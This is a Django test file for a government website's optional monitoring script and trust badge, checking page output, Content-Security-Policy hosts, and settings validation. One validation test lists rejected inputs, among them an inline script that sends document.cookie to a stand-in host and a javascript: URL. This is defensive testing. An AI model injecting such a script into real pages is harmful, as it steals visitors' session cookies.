"""The national monitoring system (EMC) and the network-trust badge: set in the department's
settings, the script is on every public page and the policy allows exactly its host for scripts
and connections (the badge's host for images); unset, nothing is added."""

from django.contrib.auth import get_user_model
from django.core.exceptions import ValidationError
from django.test import TestCase
from django.urls import reverse

from home.models import SiteSettings
from tests.factories import StandardPageFactory
from tests.helpers import ReaderClient, fill_site_settings, home_page

SNIPPET = (
    '<script type="text/javascript" async '
    'src="https://emc.example.gov.vn/collect.js?code=SKHCN-SL-0042"></script>'
)


def directives(response):
    policy = response["Content-Security-Policy"]
    return {
        part.split()[0]: part.split()[1:] for part in (p.strip() for p in policy.split(";")) if part
    }


class MonitoringTests(TestCase):
    client_class = ReaderClient

    @classmethod
    def setUpTestData(cls):
        cls.page = StandardPageFactory(parent=home_page(), title="Giới thiệu")

    def test_nothing_is_added_while_the_settings_are_empty(self):
        fill_site_settings()
        response = self.client.get(self.page.url)
        policy = directives(response)
        self.assertEqual(policy["connect-src"], ["'self'"])
        self.assertEqual(policy["img-src"], ["'self'", "data:"])
        self.assertNotIn("emc", response.content.decode())

    def test_a_pasted_snippet_is_kept_as_its_script_address(self):
        site_settings = fill_site_settings(monitoring_script=SNIPPET)
        site_settings.full_clean()
        site_settings.save()
        self.assertEqual(
            site_settings.monitoring_script,
            "https://emc.example.gov.vn/collect.js?code=SKHCN-SL-0042",
        )

    def test_the_script_is_on_public_pages_and_the_policy_allows_exactly_its_host(self):
        fill_site_settings(
            monitoring_script="https://emc.example.gov.vn/collect.js?code=SKHCN-SL-0042",
            trust_badge_image_url="https://tinnhiem.example.vn/badge/42.png",
        )
        for url in (self.page.url, "/", "/tim-kiem/?q=khoa+hoc", "/khong-co-trang-nay/"):
            with self.subTest(url=url):
                response = self.client.get(url)
                self.assertContains(
                    response,
                    '<script src="https://emc.example.gov.vn/collect.js?code=SKHCN-SL-0042" '
                    "async></script>",
                    status_code=response.status_code,
                )
                policy = directives(response)
                self.assertIn("https://emc.example.gov.vn", policy["script-src"])
                self.assertEqual(policy["connect-src"], ["'self'", "https://emc.example.gov.vn"])
                self.assertEqual(
                    policy["img-src"], ["'self'", "data:", "https://tinnhiem.example.vn"]
                )
                self.assertNotIn("https:", policy["script-src"])  # no whole scheme allowed

    def test_the_badge_is_an_image_link_when_both_addresses_are_set(self):
        fill_site_settings(
            trust_badge_url="https://tinnhiem.example.vn/xac-nhan/42",
            trust_badge_image_url="https://tinnhiem.example.vn/badge/42.png",
        )
        response = self.client.get(self.page.url)
        self.assertContains(response, 'href="https://tinnhiem.example.vn/xac-nhan/42"')
        self.assertContains(response, 'src="https://tinnhiem.example.vn/badge/42.png"')

    def test_the_admin_and_previews_get_no_outside_script(self):
        fill_site_settings(monitoring_script="https://emc.example.gov.vn/collect.js")
        admin = get_user_model().objects.create_superuser("quantri", "q@sokhcn.example", "x" * 14)
        self.client.force_login(admin)
        response = self.client.get(reverse("wagtailadmin_pages:edit", args=(self.page.pk,)))
        self.assertEqual(response.status_code, 200)
        self.assertNotIn("emc.example.gov.vn", response["Content-Security-Policy"])
        preview = self.page.make_preview_request()
        self.assertContains(preview, "Giới thiệu")
        self.assertNotIn("emc.example.gov.vn", preview.content.decode())

    def test_inline_code_and_plain_http_are_refused_with_a_clear_message(self):
        site_settings = SiteSettings.for_site(home_page().get_site())
        for value in (
            "<script>fetch('https://evil.example/'+document.cookie)</script>",
            "http://emc.example.gov.vn/collect.js",
            "javascript:alert(1)",
        ):
            with self.subTest(value=value):
                site_settings.monitoring_script = value
                with self.assertRaisesMessage(ValidationError, "Không tìm thấy địa chỉ https://"):
                    site_settings.full_clean()

    def test_an_administrator_pastes_the_snippet_in_the_settings_form(self):
        admin = get_user_model().objects.create_superuser("quantri", "q@sokhcn.example", "x" * 14)
        self.client.force_login(admin)
        site = home_page().get_site()
        url = reverse("wagtailsettings:edit", args=("home", "sitesettings", site.pk))
        form = self.client.get(url).context["form"]
        data = {
            name: value if value is not None else ""
            for name, value in form.initial.items()
            if name in form.fields
        }
        data["monitoring_script"] = SNIPPET
        response = self.client.post(url, data)
        self.assertEqual(response.status_code, 302)
        self.assertEqual(
            SiteSettings.for_site(site).monitoring_script,
            "https://emc.example.gov.vn/collect.js?code=SKHCN-SL-0042",
        )
